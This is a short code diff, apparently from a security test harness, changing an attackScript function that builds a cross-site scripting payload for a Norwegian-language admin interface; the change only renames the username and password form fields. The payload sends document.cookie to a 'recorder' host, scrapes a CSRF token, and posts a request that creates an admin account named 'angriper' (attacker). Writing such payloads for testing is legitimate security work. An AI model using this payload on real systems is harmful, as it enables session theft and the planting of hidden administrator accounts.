@@ -53,7 +53,7 @@ export function attackScript(recorder: string): string {
 new Image().src = '${recorder}/hit?c=' + encodeURIComponent(document.cookie) + '&o=' + encodeURIComponent(location.origin);
 fetch('/forvaltning/hjelp').then(function (r) { return r.text(); }).then(function (t) {
   var m = /name="_csrf" value="([^"]+)"/.exec(t);
-  var b = new URLSearchParams({ _csrf: m ? m[1] : '', brukernavn: 'angriper', passord: 'angriper-passord-123', rolle: 'admin' });
+  var b = new URLSearchParams({ _csrf: m ? m[1] : '', nyttBrukernavn: 'angriper', nyttPassord: 'angriper-passord-123', rolle: 'admin' });
   return fetch('/forvaltning/konfigurasjon/${encodeURIComponent(AVSENDER)}/brukere', { method: 'POST', body: b });
 }).then(function () { new Image().src = '${recorder}/done'; });`;
 }
